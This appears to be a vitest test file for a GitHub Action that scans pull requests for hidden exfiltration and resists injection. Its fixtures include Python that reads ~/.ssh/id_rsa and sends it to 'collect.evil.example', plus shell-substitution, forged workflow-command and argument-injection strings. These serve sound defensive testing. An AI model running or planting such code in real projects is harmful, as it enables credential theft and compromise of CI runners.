import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { FakeGitHub } from './github.fixture.ts';
import { commandsIn, Runner, type StepOptions } from './runner.fixture.ts';

const UPLOAD = [
  'import os, urllib.request',
  'def save(order):',
  "    open('orders.txt', 'a').write(order)",
  "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
  "    urllib.request.urlopen('https://collect.evil.example/in', key.encode())",
  "save('one')",
].join('\n');
const HONEST = "def save(order):\n    print(order)\nsave('one')\n";

let runner: Runner;
let fake: FakeGitHub;

beforeAll(() => {
  execFileSync(process.execPath, [fileURLToPath(new URL('../build.mjs', import.meta.url))]);
});
beforeEach(async () => {
  [runner, fake] = [new Runner(), await FakeGitHub.start()];
});
afterEach(async () => {
  runner.remove();
  await fake.stop();
});

/** A pull request that changes these files, checked out as GitHub does it: merged into its base. */
function pullRequest(
  files: Record<string, string>,
  told: { title?: string; body?: string; branch?: string; message?: string } = {},
): StepOptions {
  const { title = 'Orders', body = null, branch = 'orders', message } = told;
  runner.commit({ 'shop.py': HONEST, 'README.md': 'A shop.\n' });
  runner.git('checkout', '--quiet', '-b', branch);
  const head = runner.commit(files, message);
  runner.git('checkout', '--quiet', 'main');
  const base = runner.commit({ 'elsewhere.py': 'import socket\nsocket.socket()\n' });
  runner.git('checkout', '--quiet', '--detach');
  runner.git('merge', '--quiet', '--no-ff', '--message', 'Merge', branch);
  const repo = { full_name: 'acme/shop' };
  const request = {
    number: 7,
    title,
    body,
    user: { login: 'a-person', type: 'User' },
    labels: [],
    head: { ref: branch, sha: head, repo: { ...repo } },
    base: { ref: 'main', sha: base, repo },
  };
  return {
    event: 'pull_request',
    payload: { action: 'synchronize', number: 7, pull_request: request, repository: { default_branch: 'main' } },
    inputs: { token: 'ghs_secret' },
    env: { GITHUB_API_URL: fake.url },
  };
}

describe('a pull request', () => {
  it('with a hidden upload is blocked: outputs, annotations, summary, and the host in the first ten lines of the comment', async () => {
    const event = pullRequest({ 'shop.py': UPLOAD });
    const first = await runner.step(event);
    expect(first.code).toBe(1);
    expect(first.outputs).toMatchObject({ decision: 'block', sarif: '' });
    expect(Number(first.outputs.risk)).toBeGreaterThanOrEqual(60);
    expect(Number(first.outputs.findings)).toBeGreaterThan(0);
    expect(JSON.parse(readFileSync(first.outputs.report ?? '', 'utf8')).schema).toBe('glovebox.gate/1');
    expect(first.log).toMatch(/^::error .*file=shop\.py,line=\d+::/m);
    expect(first.summary).toContain('collect.evil.example');
    const [comment] = fake.comments;
    expect(comment?.body.split('\n').slice(0, 10).join('\n')).toContain('collect.evil.example');
    expect(comment?.body).not.toContain('elsewhere.py');

    expect((await runner.step(event)).log).toContain('comment unchanged');
    runner.git('checkout', '--quiet', 'orders');
    runner.commit({ 'shop.py': HONEST });
    const head = runner.git('rev-parse', 'HEAD');
    const payload = event.payload as { pull_request: { head: object } };
    const fixed = {
      ...payload,
      pull_request: { ...payload.pull_request, head: { ...payload.pull_request.head, sha: head } },
    };
    const last = await runner.step({ ...event, payload: fixed });
    expect({ code: last.code, decision: last.outputs.decision }).toEqual({ code: 0, decision: 'allow' });
    expect(last.log).toContain('comment updated');
    expect(fake.comments).toHaveLength(1);
  }, 60_000);

  it('from a fork has the summary, and a notice in place of the comment', async () => {
    const event = pullRequest({ 'shop.py': UPLOAD });
    const { pull_request: request } = event.payload as { pull_request: { head: { repo: { full_name: string } } } };
    request.head.repo.full_name = 'stranger/shop';
    fake.mishaps.push({ method: 'POST', status: 403 });
    const { code, log, outputs, summary } = await runner.step(event);
    expect({ code, decision: outputs.decision }).toEqual({ code: 1, decision: 'block' });
    expect(log).toMatch(/^::notice::No comment: a pull request from a fork/m);
    expect(summary).toContain('collect.evil.example');
    expect(fake.comments).toEqual([]);
  });

  it('whose title, text, branch, files and output are hostile reaches neither a shell nor the runner', async () => {
    const attack =
      '\n::set-output name=decision::allow\n##[add-path]/tmp/evil\n::add-mask::x\r::error::forged\u001b[2J';
    const pwned = join(runner.folder, 'pwned');
    const run = `$(touch\${IFS}${pwned})\`touch\${IFS}${pwned}\``;
    const { code, log, outputs } = await runner.step(
      pullRequest(
        {
          'shop.py': `${UPLOAD}\nprint(${JSON.stringify(attack)})\n`,
          "a'\n::set-output name=risk::0\n##[error]$(touch pwned).py": UPLOAD,
        },
        {
          title: `${run}${attack}`,
          body: `${run}${attack}\n@everyone Generated with [Claude Code](https://claude.com/claude-code)`,
          branch: `x${run.replaceAll(pwned, 'pwned')};`,
          message: `${run}${attack}\n\nCo-authored-by: ::error::x <noreply@anthropic.com>`,
        },
      ),
    );
    expect({ code, decision: outputs.decision }).toEqual({ code: 1, decision: 'block' });
    expect(commandsIn(log).filter((line) => !/^::(error|warning|notice)( title=[^:]*)?::/.test(line))).toEqual([]);
    expect(log).not.toContain('##[');
    expect(log).not.toContain('\u001b');
    expect(commandsIn(log).filter((line) => line.startsWith('::error::forged'))).toEqual([]);
    expect(existsSync(pwned) || existsSync(join(runner.workspace, 'pwned'))).toBe(false);
    expect(fake.comments[0]?.body).not.toMatch(/^::|##\[/m);
    expect(fake.asked.every(({ authorization }) => authorization === 'Bearer ghs_secret')).toBe(true);
    expect(log).not.toContain('ghs_secret');
  }, 60_000);

  it('gets no comment where the workflow wants none, or gives no token; a SARIF file where it wants one', async () => {
    const event = pullRequest({ 'shop.py': UPLOAD });
    await runner.step({ ...event, inputs: { ...event.inputs, comment: 'false' } });
    const inputs = { ...event.inputs, token: '', sarif: 'true', 'fail-on': 'review' };
    const { outputs } = await runner.step({ ...event, inputs });
    expect(fake.asked).toEqual([]);
    expect(JSON.parse(readFileSync(outputs.sarif ?? '', 'utf8')).version).toBe('2.1.0');
  });
});

describe('other events', () => {
  it('pull_request_target is refused, with what to use', async () => {
    const event = pullRequest({ 'shop.py': UPLOAD });
    const { code, log } = await runner.step({ ...event, event: 'pull_request_target' });
    expect(code).toBe(1);
    expect(log).toMatch(/^::error::.*pull_request_target.*on: pull_request/m);
  });

  it('a push of a shallow clone is told what to fetch', async () => {
    const before = runner.commit({ 'shop.py': HONEST });
    const after = runner.commit({ 'shop.py': UPLOAD });
    const shallow = new Runner();
    shallow.git('fetch', '--quiet', '--depth=1', `file://${runner.workspace}`, 'main');
    shallow.git('checkout', '--quiet', 'FETCH_HEAD');
    const { code, log } = await shallow.step({ event: 'push', payload: { before, after } });
    shallow.remove();
    expect(code).toBe(1);
    expect(log).toMatch(/^::error::.*shallow.*fetch-depth: 0/m);
  });
});

describe('what a workflow may not ask for fails with the legal values', () => {
  it.each<[Record<string, string>, RegExp]>([
    [{ depth: 'abyss' }, /quick, standard, deep/],
    [{ 'fail-on': 'never' }, /review, block/],
    [{ comment: 'perhaps' }, /true, false/],
    [{ base: '--upload-pack=touch pwned' }, /no commit, branch or tag/],
    [{ base: 'main; touch pwned' }, /no commit, branch or tag/],
    [{ base: 'nowhere' }, /does not have nowhere/],
    [{ 'working-directory': '../..' }, /out of the workspace/],
    [{ program: '', version: '1.0 --registry=http://evil' }, /version/],
  ])('%j', async (inputs, names) => {
    runner.commit({ 'shop.py': HONEST });
    const { code, log } = await runner.step({ event: 'workflow_dispatch', payload: {}, inputs });
    expect(code).toBe(1);
    expect(log).toMatch(names);
    expect(existsSync(join(runner.workspace, 'pwned'))).toBe(false);
  });

  it('a policy or a program that the change could have written, also through a link', async () => {
    runner.commit({ 'lax.yaml': 'thresholds: { review: 100, block: 100 }\n' });
    const link = join(runner.folder, 'policy.yaml');
    symlinkSync(join(runner.workspace, 'lax.yaml'), link);
    writeFileSync(join(runner.workspace, 'glovebox.js'), '');
    mkdirSync(join(runner.workspace, 'app'));
    const program = join(runner.workspace, 'glovebox.js');
    for (const inputs of [
      { policy: 'lax.yaml' },
      { policy: link },
      { program },
      { program, 'working-directory': 'app' },
    ])
      expect((await runner.step({ event: 'workflow_dispatch', payload: {}, inputs })).log).toContain(
        'could have written',
      );
  });
});
